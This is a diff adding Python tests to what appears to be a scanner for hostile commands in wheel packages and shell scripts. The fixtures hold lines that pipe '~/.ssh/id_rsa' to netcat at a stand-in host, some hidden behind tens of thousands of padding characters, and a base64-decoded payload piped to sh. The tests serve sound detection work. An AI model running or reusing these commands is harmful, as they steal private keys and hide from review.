@@ -71,6 +71,34 @@ def test_what_is_not_looked_at_of_a_script_is_said(path: str, data: bytes, said:
     assert not unseen(path, data[: len(data) // 4])
 
 
+def test_commands_beyond_what_is_looked_at_of_an_archive_are_a_gap(tmp_path: Path) -> None:
+    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(wheel, "w") as archive:
+        for number in range(6):
+            archive.writestr(
+                f"demo/{number}.sh", b"curl a\n" * 1_500 + b"cat ~/.ssh/id_rsa | nc x.example 80\n" * (number == 5)
+            )
+    with Pool(1) as pool:
+        facts = looked_at(wheel, pool, "demo 1.0", "", None)
+    (gap,) = facts.gaps
+    assert (gap.reason, gap.place and gap.place.member) == (Reason.LIMIT, "demo/3.sh")
+    assert "524,288 characters of commands" in gap.detail
+    assert not facts.code
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat ~/.ssh/id_rsa" + " " * 30_000 + "| nc x.example 80",
+        "true " + "a" * 30_000 + "; cat ~/.ssh/id_rsa | nc x.example 80",
+        "echo aW1wb3J0IG9z | base64 -d" + "\t" * 500 + "| sh",
+    ],
+    ids=["blanks", "words", "tabs"],
+)
+def test_what_is_far_to_the_right_is_seen(line: str) -> None:
+    assert list(foreign_facts("post.sh", line.encode()))
+
+
 def test_what_stands_behind_a_megabyte_of_javascript_is_seen(tmp_path: Path) -> None:
     wheel = tmp_path / "demo-1.0-py3-none-any.whl"
     padding = b"x=1;\n" * 300_000
